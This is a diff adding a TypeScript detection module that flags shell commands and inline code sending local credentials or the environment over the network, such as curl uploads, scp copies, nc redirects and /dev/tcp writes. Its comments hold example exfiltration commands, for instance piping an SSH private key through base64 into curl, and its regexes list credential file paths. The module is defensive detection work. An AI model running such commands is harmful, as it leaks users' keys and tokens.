@@ -1,0 +1,376 @@
+// What the exfiltration rule (risk-rules.ts, `sends_local_secrets`) sees: which local files are
+// credential stores, which commands dump the environment, and the ways a command sends either off
+// the machine (curl -d @file, -F f=@file, -T, wget --post-file, httpie @file, Invoke-WebRequest
+// -InFile/-Body, scp/rsync/rclone/aws s3 cp to a remote, a stdin redirect into nc/ssh/curl, a
+// redirect onto /dev/tcp, $(…) in a request, a secret variable in a URL or body, inline code that
+// reads a key and posts it). A trail whose "fix" does this leaks the following agent's secrets to
+// whoever wrote it. Pure: no I/O.
+// Changing what this file catches or flags? Bump CONTENT_RULES_VERSION (content-rules.ts): stored
+// trails are re-checked with the new rules at the next start.
+import { baseName, has, inlineCode, isFetch, isInterpreterName, type View, viewOf } from "./risk-view.ts";
+import { allCommands, type SimpleCommand, type Word } from "./shell.ts";
+
+// --- Credential stores ---------------------------------------------------------------------------
+
+/** Credential stores by what they hold; each tested on one path (forward slashes), anchored at its end. */
+const CREDENTIAL_STORES: readonly { re: RegExp; what: string }[] = [
+  // ~/.ssh itself or a file in it other than public keys, known_hosts, authorized_keys and config
+  { re: /(^|\/)\.ssh\/?$/, what: "SSH private keys" },
+  {
+    re: /(^|\/)\.ssh\/(?!(known_hosts|authorized_keys2?|config|environment|rc)(\.old)?$)(?![^/]*\.pub$)[^/]+$/,
+    what: "an SSH private key",
+  },
+  { re: /(^|\/)id_(rsa|dsa|ecdsa|ed25519)(_sk)?$/, what: "an SSH private key" },
+  { re: /(^|\/)\.aws(\/credentials)?\/?$/, what: "AWS credentials" },
+  { re: /(^|\/)[._]netrc$/, what: "the .netrc passwords" },
+  { re: /(^|\/)\.docker(\/config\.json)?\/?$/, what: "Docker registry credentials" },
+  { re: /(^|\/)\.kube(\/config)?\/?$/, what: "the Kubernetes credentials (kubeconfig)" },
+  { re: /(^|\/)\.(npmrc|pypirc)$/, what: "package registry tokens" },
+  { re: /(^|\/)\.git-credentials$|(^|\/)gh\/hosts\.ya?ml$/, what: "git host tokens" },
+  { re: /(^|\/)\.env(rc)?$|(^|\/)\.env\.(?!(example|sample|template|dist|defaults?)$)[\w.-]+$/i, what: "an .env file's secrets" },
+  { re: /(^|\/)etc\/g?shadow$/, what: "the system password hashes" },
+  { re: /(^|\/)proc\/(self|\d+)\/environ$/, what: "the process environment" },
+  { re: /(^|\/)\.pgpass$|(^|\/)\.vault-token$|(^|\/)credentials(\.json|\.toml|\.tfrc\.json)?$/, what: "stored credentials" },
+  { re: /(^|\/)gcloud\/(application_default_credentials\.json|credentials\.db|access_tokens\.db)$/, what: "Google Cloud credentials" },
+  { re: /(^|\/)\.gnupg(\/(private-keys-v1\.d(\/[^/]+)?|secring\.gpg))?\/?$/, what: "GnuPG private keys" },
+];
+
+/** Characters around a path inside an argument: `@file`, `name=@file`, `<file`, `FILE:file`, quotes, `(…)`. */
+const PATH_SEPARATORS = /[\s=@<>:,;()'"|&`{}[\]]+/;
+/** A URL names a remote file, not a local one (`https://x.example/.env` is a download). */
+const URL_LIKE = /^[a-z][a-z0-9+.-]*:\/\//i;
+
+/** What the credential store a path names holds ("SSH private keys", "AWS credentials"), or null. */
+export function credentialStore(path: string): string | null {
+  const p = path.replace(/\\/g, "/");
+  for (const { re, what } of CREDENTIAL_STORES) if (re.test(p)) return what;
+  return null;
+}
+
+/** The first credential store an argument names (`@~/.ssh/id_rsa`, `f=@"$HOME/.aws/credentials"`, `FILE:/etc/shadow`), or null. */
+export function namedCredential(text: string): { path: string; what: string } | null {
+  if (URL_LIKE.test(text)) return null;
+  // a Windows drive (`C:\Users\me\.aws\credentials`) keeps its path whole
+  for (const part of text.replace(/\b([a-z]):[\\/]/gi, "$1/").split(PATH_SEPARATORS)) {
+    if (part.length < 4 || URL_LIKE.test(part)) continue;
+    const what = credentialStore(part);
+    if (what) return { path: part, what };
+  }
+  return null;
+}
+
+// --- What a command prints --------------------------------------------------------------------
+
+/** `$…SECRET…`, `${…TOKEN…}`, `$env:…PASSWORD…` in what echo prints. */
+const SECRET_VARIABLE_ECHOED =
+  /\$\{?(?:env:)?([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY)[A-Za-z0-9_]*)\}?/i;
+
+/** Programs that print (or encode, pack, filter) the files they are given: their output is the file. */
+const READERS = new Set([
+  ...["cat", "type", "get-content", "gc", "less", "more", "head", "tail", "bat", "tac", "nl", "paste", "rev", "strings", "dd"],
+  ...["base64", "base32", "basenc", "xxd", "od", "hexdump", "uuencode", "openssl", "gpg", "certutil"],
+  ...["tar", "zip", "7z", "gzip", "bzip2", "xz", "zstd", "lz4", "cpio"],
+  ...["grep", "egrep", "rg", "sed", "awk", "gawk", "cut", "tr", "sort", "uniq", "jq", "yq", "tee", "cp"],
+]);
+
+/** Does this command print the whole environment (`env`, `printenv`, `set`, `export -p`, `Get-ChildItem env:`)? */
+export function dumpsEnvironment(v: View): boolean {
+  const n = v.name;
+  return (
+    ((n === "env" || n === "printenv") && v.a.every((x) => x.startsWith("-"))) ||
+    (n === "set" && v.a.length === 0) ||
+    ((n === "export" || n === "declare" || n === "typeset") && v.a.length === 1 && /^-[px]+$/.test(v.a[0]!)) ||
+    (/^(get-childitem|gci|dir|ls)$/.test(n) && v.a.some((x) => /^env:\\?$/i.test(x))) ||
+    v.a.some((x) => /^\[(system\.)?environment\]::getenvironmentvariables\(\)$/i.test(x))
+  );
+}
+
+/** What secret a command's output holds: a credential store it reads, or the environment; null when none. */
+export function printedSecret(v: View): string | null {
+  if (dumpsEnvironment(v)) return "the environment";
+  if (/^(echo|write-output|write-host|printf)$/.test(v.name)) {
+    const variable = v.a.map((x) => SECRET_VARIABLE_ECHOED.exec(x)).find((m) => m !== null);
+    return variable ? `$${variable[1]}` : null;
+  }
+  if (v.name === "security" && /^find-(generic|internet)-password$/.test(v.a[0] ?? "") && has(v, "-w", "-g")) return "a keychain password";
+  if (!READERS.has(v.name)) return null;
+  for (const x of v.a) {
+    const found = namedCredential(x);
+    if (found) return `${found.what} (${found.path})`;
+  }
+  return null;
+}
+
+/**
+ * A bare `env` (options only): it prints the environment. The command views skip `env` as a
+ * wrapper (`env FOO=1 cmd` runs cmd), so a bare one has no view and is read from its words.
+ */
+export function isBareEnv(cmd: SimpleCommand): boolean {
+  const words = cmd.words.map((w) => w.text).filter((t) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(t));
+  return words.length > 0 && baseName(words[0]!) === "env" && words.slice(1).every((t) => t.startsWith("-"));
+}
+
+/** What secret a word's command substitutions print (`"$(cat ~/.aws/credentials)"`, `$(env)`, `(Get-Content ~/.netrc)`), or null. */
+function substitutedSecret(w: Word): string | null {
+  for (const s of w.subs)
+    for (const c of allCommands(s)) {
+      if (isBareEnv(c)) return "the environment";
+      const v = viewOf(c);
+      const found = v && printedSecret(v);
+      if (found) return found;
+    }
+  return null;
+}
+
+/** What secret a variable the word uses was assigned earlier in the script (`K=$(cat ~/.ssh/id_rsa); curl -d "$K" …`), or null. */
+function assignedSecret(text: string, vars: ReadonlyMap<string, string>): string | null {
+  if (vars.size === 0 || !text.includes("$")) return null;
+  for (const m of text.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) {
+    const value = vars.get(m[1]!);
+    if (value === undefined || (!value.includes("$(") && !value.includes("`"))) continue;
+    if (/\$\(\s*(env|printenv)\s*(\||\))/.test(value)) return "the environment";
+    const found = namedCredential(value);
+    if (found) return `${found.what} (${found.path})`;
+  }
+  return null;
+}
+
+// --- Network clients ----------------------------------------------------------------------------
+
+const SOCKET_CLIENTS = new Set(["nc", "ncat", "netcat", "socat", "telnet", "ssh", "sftp", "ftp", "lftp", "tftp", "smbclient"]);
+const MAILERS = new Set(["mail", "mailx", "sendmail", "mutt"]);
+const POWERSHELL_WEB = new Set(["iwr", "irm", "invoke-webrequest", "invoke-restmethod"]);
+
+/** Does this command send what it reads on stdin, or its arguments, over the network? */
+export const isNetworkClient = (v: View | null) =>
+  v !== null &&
+  (isFetch(v) ||
+    SOCKET_CLIENTS.has(v.name) ||
+    MAILERS.has(v.name) ||
+    (v.name === "openssl" && has(v, "s_client")) ||
+    (v.name === "gh" && has(v, "gist")));
+
+/** Programs that copy local files to a remote place named in their arguments. */
+const COPIERS: Record<string, { valueOptions: Set<string> } | undefined> = {
+  scp: { valueOptions: new Set(["-i", "-F", "-o", "-P", "-S", "-c", "-l", "-J", "-D", "-X"]) },
+  rsync: { valueOptions: new Set(["-e", "--rsh", "--exclude", "--include", "-f", "--filter", "--password-file", "--port", "-T"]) },
+  rclone: { valueOptions: new Set(["--config", "--exclude", "--include", "--filter"]) },
+  aws: { valueOptions: new Set(["--profile", "--region", "--endpoint-url", "--exclude", "--include", "--sse-kms-key-id"]) },
+  gsutil: { valueOptions: new Set(["-h", "-o", "-u"]) },
+  azcopy: { valueOptions: new Set([]) },
+};
+/** `host:path`, `user@host:`, `s3://…`, `remote:path`: a place on another machine (a Windows drive `C:\` is not). */
+const REMOTE_PLACE = /^(?:[\w.-]+@)?[\w.-]{2,}:(?!\\)|^[a-z][a-z0-9+.-]*:\/\//i;
+
+// curl's options whose value names a file to send: `@file` for the data and header ones, `name=@file` / `name=<file` for -F.
+const CURL_AT_FILE = new Set(["-d", "--data", "--data-binary", "--data-ascii", "--json", "-H", "--header"]);
+const CURL_URLENCODE = new Set(["--data-urlencode"]);
+const CURL_FORM = new Set(["-F", "--form"]);
+const CURL_UPLOAD = new Set(["-T", "--upload-file"]);
+const CURL_HEADER_VALUE = new Set(["-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "-U"]);
+
+/** The files a curl command sends (`-d @f`, `--data-urlencode n@f`, `-F n=@f`, `-F n=<f`, `-T f`, `-H @f`; bundled `-d@f` too). */
+function curlSentFiles(v: View): string[] {
+  const out: string[] = [];
+  const a = v.a;
+  for (let i = 0; i < a.length; i++) {
+    const x = a[i]!;
+    let opt: string;
+    let value: string | undefined;
+    const eq = /^(--[a-z-]+)=(.*)$/s.exec(x);
+    const bundled = /^(-[dFTH])(.+)$/s.exec(x);
+    if (eq) [opt, value] = [eq[1]!, eq[2]!];
+    else if (bundled) [opt, value] = [bundled[1]!, bundled[2]!];
+    else [opt, value] = [x, a[i + 1]];
+    if (value === undefined) continue;
+    if (CURL_AT_FILE.has(opt) && value.startsWith("@")) out.push(value.slice(1));
+    else if (CURL_URLENCODE.has(opt)) {
+      const at = /^[^=@]*@(.+)$/s.exec(value);
+      if (at) out.push(at[1]!);
+    } else if (CURL_FORM.has(opt)) {
+      const file = /^[^=]*=[@<]([^;]+)/s.exec(value);
+      if (file) out.push(file[1]!);
+    } else if (CURL_UPLOAD.has(opt)) out.push(value);
+  }
+  return out;
+}
+
+/** The files a wget, httpie or PowerShell web command sends (`--post-file f`, `--body-file=f`, `@f`, `field@f`, `-InFile f`). */
+function otherSentFiles(v: View): string[] {
+  const a = v.a;
+  const out: string[] = [];
+  const options = v.name === "wget" ? /^--(post-file|body-file)(=(.*))?$/s : POWERSHELL_WEB.has(v.name) ? /^-infile()(:(.*))?$/is : null;
+  for (let i = 0; i < a.length; i++) {
+    const x = a[i]!;
+    if (options) {
+      const m = options.exec(x);
+      const value = m ? (m[2] !== undefined ? m[3] : a[i + 1]) : undefined;
+      if (value !== undefined) out.push(value);
+    } else if ((v.name === "http" || v.name === "https" || v.name === "xh") && !x.startsWith("-")) {
+      // `@file` (the body), `field@file` (a form upload), `field=@file`, `field:=@file`
+      const m = /^[^=:@\s/]*(?:=|:=)?@(.+)$/s.exec(x);
+      if (m) out.push(m[1]!);
+    }
+  }
+  return out;
+}
+
+/** The host a request goes to: of its first URL, else of its first argument that reads as `host.tld/…`; lower-case, or null. */
+function hostOf(v: View): string | null {
+  const HOST =
+    /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?([a-z0-9][a-z0-9.-]*\.[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(?::\d+)?(?:[/?#]|$)/i;
+  const url = v.a.find((x) => URL_LIKE.test(x)) ?? v.a.find((x) => !x.startsWith("-") && !x.includes("=") && HOST.test(x));
+  const m = url === undefined ? null : HOST.exec(url);
+  return m ? m[1]!.toLowerCase() : null;
+}
+
+// A variable whose name says it holds a secret (`$AWS_SECRET_ACCESS_KEY`, `${OPENAI_API_KEY}`, `$env:GH_TOKEN`, `%NPM_TOKEN%`).
+const SECRET_VARIABLE_REF =
+  /\$\{?(?:env:)?([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Za-z0-9_]*)\}?|%([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|API_?KEY|ACCESS_KEY)[A-Za-z0-9_]*)%/gi;
+/** Words of a variable name that say what it is, not whose it is. */
+const GENERIC_NAME_WORD =
+  /^(api|key|keys|token|tokens|secret|secrets|access|private|auth|client|app|password|passwd|pass|pat|bot|id|personal|my|the|env|user|service|account|session|credential|credentials|bearer|refresh|write|read|prod|dev|test|ci|job|build|deploy|registry)$/i;
+
+/**
+ * A secret variable a request puts in its URL or body. A service takes its own token that way
+ * (`?token=$SLACK_TOKEN` to slack.com), so a name that names the host is not flagged; a name
+ * that names another service is high (`?k=$OPENAI_API_KEY` to x.example); a generic one
+ * (`$TOKEN`, `$API_KEY`) or an unknown host is medium. Headers and -u are not read: sending a token
+ * in an Authorization header is what tokens are for.
+ */
+function secretVariableSent(v: View): { level: "high" | "medium"; detail: string } | null {
+  if (!isFetch(v) && !POWERSHELL_WEB.has(v.name)) return null;
+  const a = v.a;
+  const host = hostOf(v);
+  for (let i = 0; i < a.length; i++) {
+    const x = a[i]!;
+    if (CURL_HEADER_VALUE.has(x) || /^-(headers|credential|token|authentication)$/i.test(x)) {
+      i++;
+      continue;
+    }
+    if (/^--(header|user|oauth2-bearer)=/.test(x) || (x.startsWith("-") && !x.includes("$") && !x.includes("%"))) continue;
+    SECRET_VARIABLE_REF.lastIndex = 0;
+    for (const m of x.matchAll(SECRET_VARIABLE_REF)) {
+      const name = m[1] ?? m[2]!;
+      const own = name.split(/_+/).filter((w) => w.length >= 2 && !GENERIC_NAME_WORD.test(w));
+      if (host && own.some((w) => host.includes(w.toLowerCase()))) continue;
+      const where = host ? `to ${host}` : "to a host the command does not name";
+      if (own.length > 0 && host)
+        return { level: "high", detail: `sends $${name} in a URL or request body ${where}, a host its name does not name` };
+      return { level: "medium", detail: `sends $${name} in a URL or request body ${where}: check the host is the service it belongs to` };
+    }
+  }
+  return null;
+}
+
+// Inline code (python -c, node -e, a patch's added line) that sends: an HTTP or socket call that posts.
+const CODE_SENDS =
+  /require\(\s*['"](node:)?https?['"]\s*\)|requests\.(post|put|patch)\s*\(|urllib\.request\.(urlopen|Request)\s*\(|urlopen\s*\(|http\.client|https?\.request\s*\(|\bfetch\s*\(|\.sendall?\s*\(|XMLHttpRequest|Net::HTTP|LWP::UserAgent|IO::Socket|HTTP::Tiny|httpx\.(post|put)|aiohttp|axios\.(post|put)|socket\.(socket|create_connection)\s*\(/;
+// …and reads a credential store or the whole environment
+const CODE_READS_SECRETS =
+  /\.ssh[/\\](?!known_hosts|authorized_keys|config\b)[\w.-]*\b(?<!\.pub)|\bid_(rsa|dsa|ecdsa|ed25519)\b(?!\.pub)|\.aws[/\\]credentials|[._]netrc\b|\.docker[/\\]config\.json|\.kube[/\\]config\b|\.npmrc\b|\.pypirc\b|\.git-credentials\b|gh[/\\]hosts\.ya?ml|\/etc\/g?shadow\b|\/proc\/self\/environ|['"/]\.env(\.(?!example|sample|template)\w+)?['"]|\b(dict|str|repr|json\.dumps)\(\s*(dict\()?os\.environ\s*\)|JSON\.stringify\(\s*process\.env\s*\)|\bENV\.to_h\b/;
+
+/** A line of source that sends data over the network and reads a credential store or the environment (bounded: linear time). */
+export const CODE_SENDS_SECRETS_LINE = new RegExp(
+  `^(?=[^\\n]{0,2000}?(?:${CODE_SENDS.source}))(?=[^\\n]{0,2000}?(?:${CODE_READS_SECRETS.source}))`,
+  "m",
+);
+
+/** Does this source text (inline code, or a patch's added line) read a credential store or the environment and send data over the network? */
+export function codeSendsSecrets(code: string): boolean {
+  return CODE_SENDS.test(code) && CODE_READS_SECRETS.test(code);
+}
+
+// --- The sends --------------------------------------------------------------------------------------
+
+export interface SentSecret {
+  level: "high" | "medium";
+  detail: string;
+}
+
+const shortPath = (s: string) => (s.length > 60 ? `${s.slice(0, 59)}…` : s);
+
+/**
+ * How this command sends local secrets off the machine, one hit per way, or none. `laterSink`: a
+ * later stage of its pipeline is a network client (`cat ~/.ssh/id_rsa | base64 | curl -d @- …`).
+ */
+export function sentSecrets(v: View, laterSink: boolean, vars: ReadonlyMap<string, string>): SentSecret[] {
+  const hits: SentSecret[] = [];
+  const n = v.name;
+  const high = (detail: string) => hits.push({ level: "high", detail });
+  // 1. files named as what a request sends
+  const files = n === "curl" ? curlSentFiles(v) : otherSentFiles(v);
+  for (const f of files) {
+    const what = credentialStore(f.replace(/^["']|["']$/g, ""));
+    if (what) high(`${n} sends ${what} (${shortPath(f)}) over the network`);
+  }
+  // 2. copied to a remote place
+  const copier = COPIERS[n];
+  if (copier && (n !== "aws" || has(v, "s3")) && (n !== "gsutil" || has(v, "cp", "rsync", "mv"))) {
+    const places: string[] = [];
+    for (let i = 0; i < v.a.length; i++) {
+      const x = v.a[i]!;
+      if (copier.valueOptions.has(x)) i++;
+      else if (!x.startsWith("-")) places.push(x);
+    }
+    const remote = places.find((p) => REMOTE_PLACE.test(p));
+    const local = places.filter((p) => !REMOTE_PLACE.test(p)).find((p) => credentialStore(p));
+    if (remote && local) high(`${n} copies ${credentialStore(local)} (${shortPath(local)}) to ${shortPath(remote)}`);
+  }
+  // 3. file-transfer and socket clients given a credential path in their arguments (`lftp -e "put ~/.ssh/id_rsa"`, socat FILE:…)
+  if ((n === "socat" || n === "lftp" || n === "sftp" || n === "ftp" || n === "smbclient") && hits.length === 0) {
+    for (let i = 0; i < v.a.length; i++) {
+      if (v.a[i] === "-i" || v.a[i] === "-F") {
+        i++;
+        continue;
+      }
+      const found = namedCredential(v.a[i]!);
+      if (found) {
+        high(`${n} sends ${found.what} (${shortPath(found.path)}) over the network`);
+        break;
+      }
+    }
+  }
+  // 4. stdin from a credential store into a network client (`nc host 4444 < ~/.ssh/id_rsa`, `sftp h <<< "put …"`)
+  if (isNetworkClient(v)) {
+    for (const r of v.cmd.redirects) {
+      if (r.op !== "<" && r.op !== "<<<" && r.op !== "0<") continue;
+      const found =
+        r.op === "<<<" ? namedCredential(r.target) : credentialStore(r.target) && { path: r.target, what: credentialStore(r.target)! };
+      if (found) high(`${n} sends ${found.what} (${shortPath(found.path)}) from its standard input over the network`);
+    }
+  }
+  // 5. printed onto a network socket (`cat ~/.ssh/id_rsa > /dev/tcp/host/port`)
+  const printed = printedSecret(v);
+  if (printed && v.cmd.redirects.some((r) => />/.test(r.op) && /^\/dev\/(tcp|udp)\//.test(r.target)))
+    high(`writes ${printed} to a network socket (/dev/tcp)`);
+  // 6. printed into a pipeline that ends in a network client (`… | base64 | curl -d @- …`, `echo "put ~/.ssh/id_rsa" | sftp h`)
+  const put = (n === "echo" || n === "printf") && /(^|\s)put\s/.test(v.a.join(" ")) ? namedCredential(v.a.join(" ")) : null;
+  if (laterSink && (printed || put))
+    high(`pipes ${printed ?? `${put!.what} (${shortPath(put!.path)})`} into a command that sends it over the network`);
+  // 7. a request whose URL, body or arguments are a substitution that prints secrets (`-d "$(cat ~/.aws/credentials)"`)
+  if (isNetworkClient(v) || POWERSHELL_WEB.has(n)) {
+    for (const w of v.args) {
+      const found = substitutedSecret(w) ?? assignedSecret(w.text, vars);
+      if (found) {
+        high(`${n} sends ${found} over the network (through a command substitution)`);
+        break;
+      }
+    }
+    // PowerShell reads files inside expressions too: -Body ([IO.File]::ReadAllText("$HOME\.ssh\id_rsa"))
+    if (POWERSHELL_WEB.has(n) && !hits.length) {
+      const k = v.a.findIndex((x) => /^-(body|form)$/i.test(x));
+      const found = k >= 0 ? v.a.slice(k + 1, k + 2).map(namedCredential)[0] : null;
+      if (found) high(`${n} sends ${found.what} (${shortPath(found.path)}) as its request body`);
+    }
+  }
+  // 8. a secret variable in a URL or body
+  const variable = secretVariableSent(v);
+  if (variable) hits.push(variable);
+  // 9. inline code that reads a key or the environment and posts it (python -c "requests.post(…, open('~/.ssh/id_rsa'))")
+  if (isInterpreterName(n)) {
+    const code = inlineCode(v);
+    if (code !== null && codeSendsSecrets(code)) high(`${n} runs inline code that reads local secrets and sends them over the network`);
+  }
+  return hits;
+}
